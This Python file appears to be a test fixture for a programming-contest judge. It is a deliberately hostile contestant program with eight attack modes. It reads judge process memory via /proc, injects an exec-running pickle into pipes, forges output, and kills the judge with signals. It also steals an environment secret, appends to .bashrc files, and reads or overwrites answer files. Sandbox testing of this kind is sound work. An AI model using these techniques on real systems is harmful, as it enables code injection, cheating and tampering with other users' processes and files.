"""A judged program that attacks the judge, one way per mode (issue 21, rows C1-C8).

    hostile.py MODE [ARG]   as a client: c1 c2 c5 c6 c7 c8 plain; as a server: c3 c4

Every mode says on stderr what it found; a client then plays: perfectly if it
learnt the board, else by clicking the first unknown cell (deterministic, so
two runs that learn nothing play the same games). Standard library only.
"""

from __future__ import annotations

import os
import pickle
import signal
import struct
import sys

MODE = sys.argv[1]
ARG = sys.argv[2] if len(sys.argv) > 2 else ""


def say(text: str) -> None:
    sys.stderr.write(f"hostile {MODE}: {text}\n")
    sys.stderr.flush()


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


def others() -> list[int]:
    """The processes above this one, up to the judge (the first that names minesweeper).

    A real attacker would try every process it sees; this one spares the rest of the
    machine when it runs unsandboxed (in a sandbox it sees only bubblewrap's init).
    """
    found, pid = [], os.getpid()
    while pid > 1:
        try:
            stat = read(f"/proc/{pid}/stat").decode()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
            command = read(f"/proc/{pid}/cmdline")
        except (OSError, ValueError):
            break
        found.append(pid)
        if b"minesweeper" in command:
            break
    return found


def folders() -> set[str]:
    """Folders the other processes name: their arguments, working folders, open files."""
    found = set()
    for pid in others():
        paths: list[str] = []
        try:
            paths += os.fsdecode(read(f"/proc/{pid}/cmdline")).split("\0")
            paths.append(os.readlink(f"/proc/{pid}/cwd"))
            paths += [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
        for path in paths:
            if path.startswith("/") and os.path.isdir(path):
                found.add(path)
            elif path.startswith("/") and os.path.isfile(path):
                found.add(os.path.dirname(path))
    return found - {"/", "/usr", "/proc"}


def files(suffix: str) -> list[str]:
    """Files ending with ``suffix`` in the folders others name (only under ARG reversed, a
    folder of the test's, when ARG is given: this attacker spares the rest of the machine)."""
    found = []
    for top in folders():
        if ARG and not top.startswith(ARG[::-1]):
            continue
        for root, _, names in os.walk(top):
            if root.count("/") - top.count("/") > 3 or len(found) > 5000:
                break
            found += [os.path.join(root, name) for name in names if name.endswith(suffix)]
    return found


# The judge's other processes -----------------------------------------------------------------


def read_memory(pattern: bytes) -> tuple[list[str], bool]:
    """The processes whose memory it read, and whether ``pattern`` was in it."""
    read_from, seen = [], False
    for pid in others():
        try:
            maps = read(f"/proc/{pid}/maps").decode().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115 (closed below)
        except OSError:
            continue
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                memory.seek(start)
                chunk = memory.read(min(end - start, 1 << 26))
            except (OSError, OverflowError, ValueError):
                continue
            if chunk:
                read_from.append(read(f"/proc/{pid}/comm").decode().strip())
            seen = seen or pattern in chunk
        memory.close()
    return sorted(set(read_from)), seen


class Injected:
    """Unpickled, it creates the file ARG: proof that its code ran."""

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (exec, (f"open({ARG!r}, 'w').write('injected')",))


def inject() -> int:
    """Write a pickle, framed as multiprocessing does, into every pipe others hold open."""
    payload = pickle.dumps(Injected())
    frame = struct.pack("!i", len(payload)) + payload
    written = 0
    for pid in others():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(out, frame)
                os.close(out)
                written += 1
            except OSError:
                pass
    return written


def forge() -> int:
    """Write a forged summary line onto the other processes' standard output and error."""
    written = 0
    for pid in others():
        for fd in (1, 2):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as out:
                    out.write("FORGED advanced: 99/99 won\n")
                written += 1
            except OSError:
                pass
    return written


def stop_the_judge() -> int:
    sent = 0
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in {os.getppid(), *others()}:
            try:
                os.kill(pid, sig)
                sent += 1
            except OSError:
                pass
    return sent


def spoil_homes() -> list[str]:
    homes = {os.path.expanduser("~")}
    for pid in others():
        try:
            environ = read(f"/proc/{pid}/environ").split(b"\0")
        except OSError:
            continue
        homes |= {os.fsdecode(v[5:]) for v in environ if v.startswith(b"HOME=")}
    spoilt = []
    for home in homes:
        try:
            with open(os.path.join(home, ".bashrc"), "a") as rc:
                rc.write("echo pwned\n")
            spoilt.append(home)
        except OSError:
            pass
    return spoilt


# Playing ----------------------------------------------------------------------------------------


def learn(n: int, m: int, first: list[str]) -> list[str] | None:
    """The board of a case file others can see that fits the first map (C1)."""
    for path in files(".in"):
        try:
            lines = read(path).decode().split("\n")
        except (OSError, UnicodeDecodeError):
            continue
        rows = lines[1 : n + 1]
        if lines[0].split() != [str(n), str(m)] or len(rows) != n:
            continue
        if all(
            ch == "?" or (rows[r][c] == "." and (ch == "0" or ch.isdigit()))
            for r, line in enumerate(first)
            for c, ch in enumerate(line)
        ):
            return rows
    return None


def play(board: list[str] | None) -> None:
    header = sys.stdin.readline().split()
    if len(header) != 2:
        return
    n, m = map(int, header)
    grid = [sys.stdin.readline().rstrip("\n") for _ in range(n)]
    if board is None and MODE == "c1":
        board = learn(n, m, grid)
        say(f"learnt the board: {board is not None}")
    while True:
        target = next(
            (
                (r, c)
                for r in range(n)
                for c in range(m)
                if grid[r][c] == "?" and (board is None or board[r][c] == ".")
            ),
            None,
        )
        if target is None:
            return
        try:
            print(*target, flush=True)
        except BrokenPipeError:
            return
        line = sys.stdin.readline()
        if line.startswith(("YOU WIN", "GAME OVER")) or not line:
            sys.stdin.read()
            return
        grid = [line.rstrip("\n")] + [sys.stdin.readline().rstrip("\n") for _ in range(n - 1)]
        if grid[-1].startswith(("YOU WIN", "GAME OVER")):
            return


def serve() -> None:
    given = sys.stdin.buffer.read()
    if MODE == "c3":
        for path in files(".in"):
            try:
                if read(path) == given:
                    out = path[:-3] + ".out"
                    sys.stdout.buffer.write(read(out))
                    say(f"found {out}")
                    return
            except OSError:
                pass
        say("found nothing")
    else:
        spoilt = 0
        for path in files(".out"):
            try:
                with open(path, "w") as spoilt_file:
                    spoilt_file.write("pwned\n")
                spoilt += 1
            except OSError:
                pass
        say(f"overwrote {spoilt} .out files")


def main() -> None:
    if MODE in ("c3", "c4"):
        serve()
        return
    if MODE == "c2":
        read_from, seen = read_memory(ARG[::-1].encode())
        say(f"read the memory of {read_from}; found the secret: {seen}")
    elif MODE == "c5":
        say(f"wrote a pickle into {inject()} pipes")
    elif MODE == "c6":
        say(f"forged {forge()} lines")
    elif MODE == "c7":
        say(f"sent {stop_the_judge()} signals")
    elif MODE == "c8":
        secret = os.environ.get("JUDGE_SECRET", "")
        say(f"secret: {secret!r}; spoilt homes: {spoil_homes()}")
    play(None)


if __name__ == "__main__":
    main()
